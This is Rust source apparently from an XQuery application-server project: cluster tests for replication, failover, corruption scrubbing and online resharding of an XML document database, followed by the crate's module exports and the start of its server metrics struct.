        let ok = match c.serve_at(owner, &doc_url("d0.xml"), 0) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("doc reads cannot pend"),
        };
        assert_eq!(ok.response.status, 200);
    }

    #[test]
    fn followers_refuse_shipped_frames_for_foreign_documents() {
        // Craft a follower for shard 0 and feed it frames that belong to a
        // different shard: it must refuse and not advance its ack.
        let topology = Topology::new(Router::new(4, 9));
        let stats = Rc::new(RefCell::new(ReplicationStats::default()));
        let mut foreign = None;
        for i in 0..64 {
            let uri = format!("x{i}.xml");
            if topology.ring_owner(&uri) != 0 {
                foreign = Some(uri);
                break;
            }
        }
        let foreign = foreign.expect("some uri must hash off shard 0");
        let mut node = ReplicaNode::fresh(
            0,
            VirtualDisk::new(),
            topology,
            stats.clone(),
            DurabilityConfig::default(),
        );
        // build a real frame stream via a scratch durable db
        let scratch = VirtualDisk::new();
        let mut db = XmlDb::durable(scratch.clone(), DurabilityConfig::default());
        db.load(&foreign, "<root/>").unwrap();
        db.commit().unwrap();
        let data = scratch.read(WAL_FILE).unwrap();
        let (acked, refused) = node.accept_frames(1, &data).unwrap();
        assert_eq!(acked, 0, "foreign document must not be acked");
        assert!(refused, "ownership break must be reported");
        assert_eq!(node.applied(), 0);
        assert_eq!(stats.borrow().ownership_rejections, 1);
        assert!(node.serialize(&foreign).is_none());
        // over the wire the refusal is a non-200 reply, so a leader with a
        // broken router backs off instead of hot-looping the same batch
        let node = Rc::new(RefCell::new(Some(node)));
        let req = Request::post(
            "http://s0r1.xqib/replicate?shard=0&term=1",
            &format!("F{}", to_hex(&data)),
        );
        let resp = ReplicaNode::handle(&node, &req);
        assert_eq!(
            resp.status, 421,
            "ownership refusal must not read as success"
        );
        assert_eq!(stats.borrow().ownership_rejections, 2);
    }

    #[test]
    fn follower_reads_carry_replica_and_lag_headers() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (_, _) = c.quiesce(0);
        let done = match c.submit(&doc_url("d1.xml"), 500) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("doc reads cannot pend"),
        };
        assert_eq!(done.outcome, ClusterOutcome::FollowerRead);
        assert_eq!(done.response.status, 200);
        assert!(done.response.header("X-XQIB-Replica").is_some());
        assert_eq!(done.response.header("X-XQIB-Replica-Lag"), Some("0"));
        assert!(c.stats().follower_reads > 0);
    }

    #[test]
    fn blackout_doc_reads_degrade_to_the_most_caught_up_follower() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 2,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (now, _) = c.quiesce(0);
        c.crash_leader(0, now + 1);
        // before failover completes, a doc read still gets a stale body
        let done = match c.submit(&doc_url("d2.xml"), now + 2) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("doc reads cannot pend"),
        };
        assert_eq!(done.outcome, ClusterOutcome::DegradedRead);
        assert_eq!(done.response.status, 200);
        assert_eq!(done.response.header("X-XQIB-Degraded"), Some("no-leader"));
        // but an update during the blackout is refused
        let refused = match c.submit(&update_url("d2.xml", "nope"), now + 3) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("no leader to pend on"),
        };
        assert_eq!(refused.outcome, ClusterOutcome::NoLeader);
        assert_eq!(refused.response.status, 503);
    }

    #[test]
    fn lost_replies_and_truncated_shipments_still_converge() {
        let mut cfg = ClusterConfig {
            shards: 1,
            followers: 2,
            ack_replicas: 2,
            ship_truncate_permille: 250,
            ..ClusterConfig::default()
        };
        cfg.repl_fault = Some(FaultPlan::seeded(0).with_reply_lost_permille(200));
        let mut c = seeded(cfg);
        let mut now = 0;
        let mut ids = Vec::new();
        for i in 0..10 {
            match c.submit(&update_url("d3.xml", &format!("t{i}")), now) {
                Submitted::Pending(id) => ids.push(id),
                Submitted::Done(d) => assert_eq!(d.outcome, ClusterOutcome::AckedUpdate),
            }
            now += 3;
        }
        let (_, done) = c.quiesce(now);
        for d in &done {
            assert_eq!(
                d.outcome,
                ClusterOutcome::AckedUpdate,
                "update should ack despite lost replies: {d:?}"
            );
        }
        assert_eq!(done.len(), ids.len());
        // both followers hold every marker, byte-for-byte the same doc
        let leader_xml = c.serialize("d3.xml").unwrap();
        for slot in 0..3 {
            if slot == c.leader_seat(0) {
                continue;
            }
            let guard = c.shards[0].seats[slot].replica.borrow();
            let xml = guard.as_ref().unwrap().serialize("d3.xml").unwrap();
            assert_eq!(xml, leader_xml, "follower {slot} diverged");
        }
        // shipped counts only frames whose bytes survived the in-flight
        // cut, so every per-seat ack maps to a counted shipment
        let stats = c.stats();
        assert!(stats.frames_acked <= stats.frames_shipped);
        assert!(stats.frames_retried <= stats.frames_shipped);
        assert!(
            stats.frames_retried > 0,
            "chaos config must exercise resends"
        );
    }

    #[test]
    fn partition_extends_the_blackout_until_a_quorum_is_reachable() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 2,
            ack_replicas: 2,
            ..ClusterConfig::default()
        });
        let (now, _) = c.quiesce(0);
        // with ack_replicas = 2, quorum is 1 probe — partition BOTH
        // followers so no probe lands until the window closes
        c.partition(0, 1, now, now + 2_000);
        c.partition(0, 2, now, now + 2_000);
        c.crash_leader(0, now + 1);
        let mut t = now + 1;
        while t < now + 1_900 {
            let _ = c.advance(t);
            t += 10;
        }
        assert!(!c.has_leader(0), "partitioned shard must stay leaderless");
        let (_, _) = c.quiesce(now + 2_100);
        assert!(c.has_leader(0), "healed partition should allow promotion");
        let stats = c.stats();
        assert!(
            stats.blackout_ms >= 2_000,
            "blackout should span the partition: {}ms",
            stats.blackout_ms
        );
    }

    #[test]
    fn snapshot_resync_catches_up_a_follower_behind_a_checkpoint() {
        let mut cfg = ClusterConfig {
            shards: 1,
            followers: 1,
            ack_replicas: 0,
            ..ClusterConfig::default()
        };
        // tiny leader checkpoint threshold: the log truncates constantly
        cfg.durability.checkpoint_threshold = 64;
        // keep the follower dark while the leader churns
        let mut c = seeded(cfg);
        c.partition(0, 1, 0, 5_000);
        let mut now = 0;
        for i in 0..12 {
            match c.submit(&update_url("d4.xml", &format!("s{i}")), now) {
                Submitted::Done(d) => assert_eq!(d.outcome, ClusterOutcome::AckedUpdate),
                Submitted::Pending(_) => panic!("ack_replicas=0 acks synchronously"),
            }
            now += 5;
        }
        let (_, _) = c.quiesce(5_100);
        assert!(
            c.stats().snapshots_shipped > 0,
            "resync must ship a snapshot"
        );
        let guard = c.shards[0].seats[1].replica.borrow();
        let xml = guard.as_ref().unwrap().serialize("d4.xml").unwrap();
        for i in 0..12 {
            assert!(
                xml.contains(&format!("s{i}")),
                "follower missing s{i}: {xml}"
            );
        }
    }

    #[test]
    fn identical_seeds_produce_identical_replication_stats() {
        let run = || {
            let mut cfg = ClusterConfig {
                shards: 2,
                followers: 1,
                ack_replicas: 1,
                ship_truncate_permille: 150,
                ..ClusterConfig::default()
            };
            cfg.repl_fault = Some(FaultPlan::seeded(0).with_reply_lost_permille(100));
            let mut c = seeded(cfg);
            let mut now = 0;
            let mut done = Vec::new();
            for i in 0..12 {
                let uri = format!("d{}.xml", i % 6);
                match c.submit(&update_url(&uri, &format!("det{i}")), now) {
                    Submitted::Done(d) => done.push(*d),
                    Submitted::Pending(_) => {}
                }
                now += 7;
            }
            c.crash_leader_at(now + 10, 0);
            let (_, rest) = c.quiesce(now);
            done.extend(rest);
            (done, c.stats())
        };
        let (a_done, a_stats) = run();
        let (b_done, b_stats) = run();
        assert_eq!(a_stats, b_stats, "stats must be bit-identical per seed");
        assert_eq!(a_done, b_done, "completions must be bit-identical per seed");
    }

    /// Runs `n` sequential acked updates against `uri`, asserting each one
    /// reaches `AckedUpdate`; returns the markers and the time after the
    /// last ack.
    fn acked_markers(
        c: &mut Cluster,
        uri: &str,
        n: usize,
        mut now: u64,
        tag: &str,
    ) -> (Vec<String>, u64) {
        let mut acked = Vec::new();
        for i in 0..n {
            let marker = format!("{tag}{i}");
            match c.submit(&update_url(uri, &marker), now) {
                Submitted::Pending(id) => {
                    let (done, at) = await_update(c, id, now);
                    assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
                    now = at + 1;
                }
                Submitted::Done(d) => {
                    assert_eq!(d.outcome, ClusterOutcome::AckedUpdate);
                    now += 1;
                }
            }
            acked.push(marker);
        }
        (acked, now)
    }

    /// Advances the cluster tick by tick across `[from, to)`.
    fn drive(c: &mut Cluster, from: u64, to: u64) -> u64 {
        for t in from..to {
            let _ = c.advance(t);
        }
        to
    }

    /// Flips one payload byte of the first WAL frame on `disk`: with later
    /// frames behind it, the scan must classify this as mid-prefix CRC
    /// damage (an alarm), never as an ordinary torn tail.
    fn rot_first_frame(disk: &VirtualDisk) {
        let mut img = disk.read(WAL_FILE).expect("a journaled WAL to rot");
        // frame layout [len u32][crc u32][seq u64][tag u8][payload]: byte
        // 17 is the first payload byte
        img[17] ^= 0x01;
        disk.write_file(WAL_FILE, &img);
    }

    #[test]
    fn scrub_repairs_a_follower_with_mid_prefix_wal_rot() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (_, now) = acked_markers(&mut c, "d0.xml", 3, 10, "rot");
        let disk = c.shards[0].seats[1].disk.clone();
        rot_first_frame(&disk);
        {
            let rep = c.shards[0].seats[1].replica.borrow();
            let (rot, _) = rep.as_ref().unwrap().disk_damage();
            assert!(rot, "the flip must read as mid-prefix WAL damage");
        }
        // the next scrub pass detects the rot, re-checkpoints the replica
        // from intact memory and pulls the seat out of the read pool
        let scrub = c.cfg.scrub_interval_ms;
        let now = drive(&mut c, now, now + scrub + 2);
        let ist = c.integrity_stats();
        assert!(
            ist.scrub_wal_corruptions >= 1,
            "rot went undetected: {ist:?}"
        );
        assert!(ist.repairs_started >= 1);
        assert_eq!(ist.quarantines, 1);
        assert!(matches!(
            c.shards[0].seats[1].health,
            SeatHealth::Quarantined { .. }
        ));
        {
            let rep = c.shards[0].seats[1].replica.borrow();
            let (rot, verdicts) = rep.as_ref().unwrap().disk_damage();
            assert!(
                !rot && verdicts.is_empty(),
                "the repair checkpoint must supersede the rot"
            );
        }
        // cool-off elapses into probation; the scrubber readmits the seat
        // only after seeing it caught up with matching digests
        let end = now + c.cfg.quarantine_ms + 2 * scrub + 10;
        drive(&mut c, now, end);
        assert_eq!(c.shards[0].seats[1].health, SeatHealth::Healthy);
        assert!(c.integrity_stats().repairs_verified >= 1);
    }

    #[test]
    fn a_divergent_follower_is_wiped_resynced_and_readmitted() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (acked, now) = acked_markers(&mut c, "d0.xml", 2, 10, "div");
        {
            let rep = c.shards[0].seats[1].replica.clone();
            let mut guard = rep.borrow_mut();
            assert!(guard.as_mut().unwrap().poison_document("d0.xml"));
        }
        // disk and WAL digests are untouched — only the digest cross-check
        // against the leader's sealed digests can notice the divergence
        let scrub = c.cfg.scrub_interval_ms;
        let now = drive(&mut c, now, now + scrub + 2);
        let ist = c.integrity_stats();
        assert!(
            ist.scrub_digest_mismatches >= 1,
            "divergence unseen: {ist:?}"
        );
        assert_eq!(ist.quarantines, 1);
        assert!(matches!(
            c.shards[0].seats[1].health,
            SeatHealth::Quarantined { .. }
        ));
        // the wiped seat resyncs from a leader snapshot, serves cool-off,
        // and is readmitted once its digests match again
        let end = now + c.cfg.quarantine_ms + 3 * scrub;
        drive(&mut c, now, end);
        assert_eq!(c.shards[0].seats[1].health, SeatHealth::Healthy);
        assert!(c.integrity_stats().repairs_verified >= 1);
        let rep = c.shards[0].seats[1].replica.borrow();
        let xml = rep.as_ref().unwrap().serialize("d0.xml").unwrap();
        assert!(!xml.contains("rotted"), "poison survived the resync: {xml}");
        for m in &acked {
            assert!(xml.contains(m.as_str()), "resync lost acked {m}: {xml}");
        }
    }

    #[test]
    fn a_leader_on_rotted_wal_is_demoted_without_losing_acked_updates() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 2,
            ack_replicas: 1,
            // never checkpoint on its own: the damaged log must survive
            // until the scrubber looks at it
            durability: DurabilityConfig {
                group_commit: 1,
                checkpoint_threshold: 0,
            },
            ..ClusterConfig::default()
        });
        let (acked, now) = acked_markers(&mut c, "d0.xml", 4, 10, "dem");
        let seat = c.shards[0].leader_seat;
        rot_first_frame(&c.shards[0].seats[seat].disk.clone());
        // the next scrub pass steps the leader down rather than ever
        // serving or shipping from damaged media; the backdated failover
        // detector re-elects within the same housekeeping tick, with the
        // demoted seat still in the candidate set carrying its full log
        let scrub = c.cfg.scrub_interval_ms;
        let now = drive(&mut c, now, now + 2 * scrub + 2);
        let ist = c.integrity_stats();
        assert_eq!(ist.leader_demotions, 1, "rot must demote the leader");
        assert!(ist.scrub_wal_corruptions >= 1);
        assert!(c.has_leader(0), "demotion must end in a new election");
        assert_eq!(c.stats().failovers, 1);
        let (_, _) = c.quiesce(now);
        for m in &acked {
            assert!(c.contains("d0.xml", m), "acked {m} lost across demotion");
        }
    }

    #[test]
    fn a_poisoned_follower_read_is_refused_and_served_by_the_leader() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (_, now) = acked_markers(&mut c, "d0.xml", 1, 10, "rr");
        {
            let rep = c.shards[0].seats[1].replica.clone();
            let mut guard = rep.borrow_mut();
            assert!(guard.as_mut().unwrap().poison_document("d0.xml"));
        }
        // the follower is in-sync and healthy, so the read router picks it;
        // its body hashes wrong against the leader's sealed digest, so the
        // read is refused, the seat quarantined, and the leader serves
        let done = match c.submit(&doc_url("d0.xml"), now) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("reads cannot pend"),
        };
        assert_eq!(done.response.status, 200);
        assert_eq!(done.outcome, ClusterOutcome::Served, "leader fallback");
        assert!(
            done.response.body.contains("rr0"),
            "the verified body must carry the acked update: {}",
            done.response.body
        );
        assert!(
            !done.response.body.contains("rotted"),
            "a digest-mismatched body must never be served"
        );
        let ist = c.integrity_stats();
        assert_eq!(ist.reads_refused, 1);
        assert_eq!(ist.quarantines, 1);
    }

    #[test]
    fn metrics_surface_carries_replication_counters() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        match c.submit(&update_url("d5.xml", "mx"), 0) {
            Submitted::Pending(id) => {
                let _ = await_update(&mut c, id, 0);
            }
            Submitted::Done(_) => {}
        }
        let done = match c.submit("/metrics", 100) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("metrics cannot pend"),
        };
        assert_eq!(done.response.status, 200);
        assert!(
            done.response.body.contains("<repl-frames-shipped>"),
            "metrics body missing replication counters: {}",
            done.response.body
        );
    }

    // -----------------------------------------------------------------
    // Online membership & resharding
    // -----------------------------------------------------------------

    /// Loads `docs` documents and writes one acked marker into each;
    /// returns the markers keyed by URI and the advanced clock.
    fn marked(c: &mut Cluster, docs: usize, mut now: u64) -> (Vec<(String, String)>, u64) {
        let mut markers = Vec::new();
        for i in 0..docs {
            let uri = format!("m{i}.xml");
            c.load(&uri, &format!("<root n=\"{i}\"/>")).unwrap();
            let marker = format!("mk{i}");
            now = put_marker(c, &uri, &marker, now);
            markers.push((uri, marker));
        }
        (markers, now)
    }

    /// Submits one update and drives it to an ack; returns the new clock.
    fn put_marker(c: &mut Cluster, uri: &str, marker: &str, now: u64) -> u64 {
        match c.submit(&update_url(uri, marker), now) {
            Submitted::Done(d) => {
                assert_eq!(d.outcome, ClusterOutcome::AckedUpdate, "{uri}/{marker}");
                now + 1
            }
            Submitted::Pending(id) => {
                let (done, at) = await_update(c, id, now);
                assert_eq!(done.outcome, ClusterOutcome::AckedUpdate, "{uri}/{marker}");
                at + 1
            }
        }
    }

    #[test]
    fn add_shard_migrates_documents_and_fences_stale_routes() {
        let mut c = Cluster::new(ClusterConfig {
            seed: 42,
            shards: 2,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (markers, now) = marked(&mut c, 24, 0);
        let owners_before: Vec<usize> = markers.iter().map(|(u, _)| c.owner(u)).collect();
        let epoch_before = c.epoch();

        let new_shard = c.add_shard(now);
        assert_eq!(new_shard, 2);
        assert_eq!(
            c.epoch(),
            epoch_before + 1,
            "ring install must bump the epoch"
        );
        assert!(
            c.migrations_in_flight() > 0,
            "the new ring must claim documents"
        );
        let (settled, _) = c.quiesce(now);

        let rs = c.reshard_stats();
        assert!(rs.docs_moved > 0, "no document migrated to the new shard");
        assert_eq!(rs.migrations_completed, rs.docs_moved);
        assert_eq!(c.migrations_in_flight(), 0);
        let mut moved = 0;
        for ((uri, marker), before) in markers.iter().zip(&owners_before) {
            let owner = c.owner(uri);
            assert!(
                c.contains(uri, marker),
                "acked marker {marker} lost while resharding {uri}"
            );
            if owner == *before {
                continue;
            }
            moved += 1;
            assert_eq!(
                owner, new_shard,
                "documents can only move to the joining shard"
            );
            // the stale route hits the old owner's fence: 421 plus the
            // pointers a client needs to re-resolve
            let done = match c.serve_at(*before, &doc_url(uri), settled) {
                Submitted::Done(d) => d,
                Submitted::Pending(_) => panic!("fence cannot pend"),
            };
            assert_eq!(done.response.status, 421);
            assert_eq!(done.outcome, ClusterOutcome::Misrouted);
            assert_eq!(
                done.response.header("X-XQIB-Owner"),
                Some(new_shard.to_string().as_str())
            );
            assert_eq!(
                done.response.header("X-XQIB-Epoch"),
                Some(c.epoch().to_string().as_str())
            );
            // and the routed path serves the moved document fine
            let ok = match c.submit(&doc_url(uri), settled) {
                Submitted::Done(d) => d,
                Submitted::Pending(_) => panic!("doc reads cannot pend"),
            };
            assert_eq!(ok.response.status, 200);
        }
        assert_eq!(moved as u64, rs.docs_moved);
        // a moved document accepts updates at its new home
        let moved_uri = markers
            .iter()
            .zip(&owners_before)
            .find(|((u, _), b)| c.owner(u) != **b)
            .map(|((u, _), _)| u.clone())
            .unwrap();
        let _ = put_marker(&mut c, &moved_uri, "after-move", settled + 1);
        assert!(c.contains(&moved_uri, "after-move"));
    }

    #[test]
    fn decommission_drains_documents_and_retires_the_seats() {
        let mut c = Cluster::new(ClusterConfig {
            seed: 42,
            shards: 3,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (markers, now) = marked(&mut c, 24, 0);
        let homed_on_1 = markers.iter().filter(|(u, _)| c.owner(u) == 1).count();
        assert!(
            homed_on_1 > 0,
            "seed must home documents on the leaving shard"
        );

        assert!(c.decommission_shard(1, now));
        assert!(c.is_draining(1));
        assert!(
            !c.decommission_shard(1, now),
            "double decommission must refuse"
        );
        let (settled, _) = c.quiesce(now);

        assert!(c.is_retired(1), "drained shard must retire");
        let rs = c.reshard_stats();
        assert_eq!(rs.drains, 1);
        assert!(rs.docs_moved as usize >= homed_on_1);
        for (uri, marker) in &markers {
            assert_ne!(c.owner(uri), 1, "{uri} still routed to the retired shard");
            assert!(
                c.contains(uri, marker),
                "acked marker {marker} lost draining {uri}"
            );
        }
        // the retired shard refuses everything with the fence
        let done = match c.serve_at(1, &doc_url(&markers[0].0), settled) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("fence cannot pend"),
        };
        assert_eq!(done.response.status, 421);
        // and a retired shard never blocks quiescence
        let (_, _) = c.quiesce(settled);
    }

    #[test]
    fn the_last_shard_cannot_be_decommissioned() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        assert!(!c.decommission_shard(0, 0));
        assert!(!c.is_draining(0));
        assert_eq!(c.epoch(), 0);
    }

    #[test]
    fn rebalance_moves_keys_without_losing_acked_updates() {
        let mut c = Cluster::new(ClusterConfig {
            seed: 42,
            shards: 3,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (markers, now) = marked(&mut c, 24, 0);
        c.rebalance(7, now);
        assert_eq!(c.epoch(), 1);
        let (_, _) = c.quiesce(now);
        let rs = c.reshard_stats();
        assert!(rs.docs_moved > 0, "a reseeded ring must move some keys");
        for (uri, marker) in &markers {
            assert!(
                c.contains(uri, marker),
                "{marker} lost in rebalance of {uri}"
            );
        }
    }

    #[test]
    fn scheduled_topology_changes_apply_at_their_time() {
        let mut c = seeded(ClusterConfig {
            shards: 2,
            followers: 0,
            ack_replicas: 0,
            ..ClusterConfig::default()
        });
        c.schedule_topology(500, TopologyChange::AddShard);
        let _ = c.advance(100);
        assert_eq!(c.shard_count(), 2, "topology change applied early");
        let _ = c.advance(600);
        assert_eq!(c.shard_count(), 3);
        assert_eq!(c.epoch(), 1);
    }

    #[test]
    fn leader_crash_mid_migration_pauses_until_failover_then_completes() {
        let mut c = Cluster::new(ClusterConfig {
            seed: 42,
            shards: 2,
            followers: 2,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let (markers, now) = marked(&mut c, 24, 0);
        let new_shard = c.add_shard(now);
        // the destination loses its leader before any copy can start: every
        // migration to it parks until failover elects a replacement
        c.crash_leader(new_shard, now);
        let _ = c.advance(now + 1);
        assert!(c.migrations_in_flight() > 0);
        let (_, _) = c.quiesce(now + 1);
        assert!(
            c.has_leader(new_shard),
            "failover must restaff the destination"
        );
        assert_eq!(
            c.migrations_in_flight(),
            0,
            "migrations must finish after failover"
        );
        let rs = c.reshard_stats();
        assert!(rs.docs_moved > 0);
        for (uri, marker) in &markers {
            assert!(
                c.contains(uri, marker),
                "{marker} lost migrating {uri} across a destination crash"
            );
        }
    }

    /// Satellite: migration × scrubber. Latent rot on the migration
    /// destination mid-copy is caught by the cutover digest cross-check;
    /// the cluster re-copies cleanly instead of cutting over to rot.
    #[test]
    fn rotten_destination_copy_is_recopied_never_cut_over() {
        let mut c = Cluster::new(ClusterConfig {
            seed: 42,
            shards: 2,
            followers: 1,
            ack_replicas: 1,
            scrub_interval_ms: 0, // isolate the migration's own cross-check
            ..ClusterConfig::default()
        });
        let (markers, now) = marked(&mut c, 24, 0);
        let dest = c.add_shard(now);
        // first tick starts the copies
        let _ = c.advance(now);
        let copying: Vec<String> = c
            .migrations
            .iter()
            .filter(|m| matches!(m.phase, MigrationPhase::Copying { .. }))
            .map(|m| m.uri.clone())
            .collect();
        assert!(!copying.is_empty(), "no copy started on the first tick");
        // silent rot between the destination's store and its seal, exactly
        // the divergence a digest cross-check exists to catch
        let poisoned = &copying[0];
        assert!(c.shards[dest]
            .leader
            .as_mut()
            .unwrap()
            .db
            .poison_recorded_digest(poisoned));
        let before = c.reshard_stats().migrations_aborted;
        let (_, _) = c.quiesce(now + 1);
        let rs = c.reshard_stats();
        assert!(
            rs.migrations_aborted > before,
            "rotten copy must abort and re-copy, not cut over: {rs:?}"
        );
        assert_eq!(c.migrations_in_flight(), 0);
        assert_eq!(
            c.owner(poisoned),
            dest,
            "re-copy must still complete the move"
        );
        for (uri, marker) in &markers {
            assert!(c.contains(uri, marker), "{marker} lost on {uri}");
        }
    }

    #[test]
    fn metrics_surface_carries_reshard_counters() {
        let mut c = Cluster::new(ClusterConfig {
            seed: 42,
            shards: 2,
            followers: 0,
            ack_replicas: 0,
            ..ClusterConfig::default()
        });
        let (_, now) = marked(&mut c, 12, 0);
        let _ = c.add_shard(now);
        let (settled, _) = c.quiesce(now);
        let done = match c.submit("/metrics", settled) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("metrics cannot pend"),
        };
        assert_eq!(done.response.status, 200);
        for needle in [
            "<reshard-epoch-bumps>",
            "<reshard-docs-moved>",
            "<reshard-cutover-fences>",
        ] {
            assert!(
                done.response.body.contains(needle),
                "metrics body missing {needle}: {}",
                done.response.body
            );
        }
    }
}
