//! # xqib-appserver
//!
//! The **server tier** of the Elsevier Reference 2.0 scenario (§6.1): an
//! XML document database (the MarkLogic stand-in), an XQuery application
//! server that renders pages server-side, a REST interface that serves
//! whole documents (the migration's caching-friendly API), and the
//! server-to-client **migration** transformation the paper describes:
//!
//! > "the prolog is directly inserted into the script tag, whereas the
//! > contents enclosed in the outermost element constructors (formerly
//! > computed by the server) are removed and put into insert expressions
//! > in the main function (they will be inserted by the client)."
//!
//! Plus a deterministic synthetic corpus generator (journals → volumes →
//! issues → articles with reference lists) standing in for Elsevier's
//! proprietary content, and the per-deployment metrics the Figure 2
//! experiment reports.

// The server tier must degrade, never die: every fallible path returns a
// typed error. Tests opt back in per-module.
#![deny(clippy::unwrap_used, clippy::expect_used)]

pub mod cluster;
pub mod corpus;
pub mod fleet;
pub mod governor;
pub mod metrics;
pub mod migrate;
pub mod render;
pub mod server;
pub mod simulate;
pub mod webservice;
pub mod xmldb;

pub use cluster::{
    Cluster, ClusterCompletion, ClusterConfig, ClusterOutcome, IntegrityStats, ReplicationStats,
    ReshardStats, Router, Submitted, TopologyChange, TopologyEpoch,
};
pub use corpus::{generate_corpus, CorpusSpec};
pub use fleet::{
    run_fleet, ClientReport, FleetChaos, FleetConfig, FleetReport, FleetStats, Scenario,
};
pub use governor::{Admission, Class, GovernedServer, GovernorConfig, Outcome, RequestGovernor};
pub use metrics::ServerMetrics;
pub use server::AppServer;
pub use simulate::{
    run_sim, run_sim_with_server, ArrivalPattern, ClientSpec, RouteMix, SimConfig, SimReport,
};
pub use webservice::WebServiceHost;
pub use xmldb::{DurabilityConfig, XmlDb};
