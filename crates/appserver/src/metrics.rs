//! Server-side metrics for the Figure 2 experiment: how much work and
//! traffic each deployment (server-rendered vs migrated) costs the server.

use xqib_browser::{QuarantineStats, RecoveryStats};
use xqib_dom::order::stats::EngineStats;
use xqib_storage::DurabilityStats;

use crate::governor::OverloadStats;
use xqib_xquery::plancache::PlanCacheStats;

/// Counters accumulated by the application server.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ServerMetrics {
    /// HTTP requests handled.
    pub requests: u64,
    /// Bytes shipped to clients.
    pub bytes_out: u64,
    /// Server-side XQuery evaluations (the CPU-cost proxy the paper's
    /// off-loading argument is about).
    pub xquery_evals: u64,
    /// Document-order index rebuilds triggered by this server's evaluations
    /// (each is one O(n) traversal; see `xqib_dom::order`).
    pub order_index_rebuilds: u64,
    /// Path-step normalisations that actually sorted.
    pub sorts_performed: u64,
    /// Path-step normalisations the evaluator proved unnecessary.
    pub sorts_elided: u64,
    /// Web-service calls that ended in an error response.
    pub failed_calls: u64,
    /// Client fetch attempts (first tries + retries) observed via
    /// [`record_recovery`](Self::record_recovery).
    pub fetch_attempts: u64,
    /// Retry tasks the clients scheduled.
    pub fetch_retries: u64,
    /// Client-side request deadlines hit.
    pub fetch_timeouts: u64,
    pub breaker_opens: u64,
    pub breaker_half_opens: u64,
    pub breaker_closes: u64,
    /// Degraded fetches answered from the stale cache.
    pub stale_served: u64,
    /// Listener invocations that raised a dynamic error (contained).
    pub listener_errors: u64,
    /// Listener invocations that panicked (caught at dispatch).
    pub listener_panics: u64,
    /// Listener invocations preempted for exhausting their fuel budget.
    pub fuel_exhausted: u64,
    /// Listeners quarantined after repeated failures.
    pub quarantine_trips: u64,
    /// Dispatches skipped because the listener was quarantined.
    pub quarantine_skips: u64,
    /// Redo records appended to the write-ahead log.
    pub wal_appends: u64,
    /// Successful WAL/checkpoint fsyncs (group commits).
    pub wal_fsyncs: u64,
    /// Checkpoints written (each truncates the WAL).
    pub checkpoints: u64,
    /// Recoveries performed over the disk image.
    pub recoveries: u64,
    /// Recoveries that dropped a torn/corrupt WAL tail.
    pub torn_tails_dropped: u64,
    /// Recoveries that found every written checkpoint slot corrupt and
    /// had to rebuild from the WAL alone (typed, not a panic).
    pub ckpt_slots_lost: u64,
    /// Mid-prefix WAL damage seen during recovery — never a legal crash
    /// shape, so it indicates latent media rot.
    pub wal_corruptions: u64,
    /// Recovered documents whose content digest disagreed with the digest
    /// recorded in the WAL.
    pub recovery_digest_mismatches: u64,
    /// Requests the governor admitted into the bounded queue.
    pub admitted: u64,
    /// Requests shed with 503 + `Retry-After` (queue overflow or CoDel
    /// queue-delay shedding).
    pub shed: u64,
    /// Render-class requests degraded to a whole-document cached snapshot
    /// (`X-XQIB-Degraded`).
    pub degraded: u64,
    /// Requests whose deadline expired (`XQIB0014`), in queue or in the
    /// evaluator.
    pub deadline_exceeded: u64,
    /// Median admission-queue delay, virtual milliseconds.
    pub queue_delay_p50_ms: u64,
    /// 99th-percentile admission-queue delay, virtual milliseconds.
    pub queue_delay_p99_ms: u64,
    /// Query evaluations answered by a cached compiled plan (no re-parse).
    pub plan_cache_hits: u64,
    /// Query evaluations that compiled and lowered a fresh plan.
    pub plan_cache_misses: u64,
    /// Cached plans evicted to respect the capacity bound.
    pub plan_cache_evictions: u64,
    /// Whole-cache invalidations (epoch bumps).
    pub plan_cache_invalidations: u64,
    /// WAL frames shipped to followers (every attempt, including resends).
    pub repl_frames_shipped: u64,
    /// Frame sequence numbers durably acknowledged by followers.
    pub repl_frames_acked: u64,
    /// Frames re-shipped after a lost or failed attempt.
    pub repl_frames_retried: u64,
    /// Full snapshots shipped (log-gap resync or new-term reset).
    pub repl_snapshots_shipped: u64,
    /// Failover probes sent to followers.
    pub repl_probes: u64,
    /// Leader promotions performed.
    pub repl_failovers: u64,
    /// Render reads served by a follower instead of the leader.
    pub repl_follower_reads: u64,
    /// Shipments or requests refused for documents the shard doesn't own.
    pub repl_ownership_rejections: u64,
    /// Total virtual milliseconds some shard spent leaderless.
    pub repl_blackout_ms: u64,
    /// High-water replica lag (leader committed − follower acked frames).
    pub repl_max_replica_lag: u64,
    /// Simulated browsers in the last fleet run reported to this server.
    pub fleet_clients: u64,
    /// Interactions the fleet performed (clicks, searches, cart ops).
    pub fleet_interactions: u64,
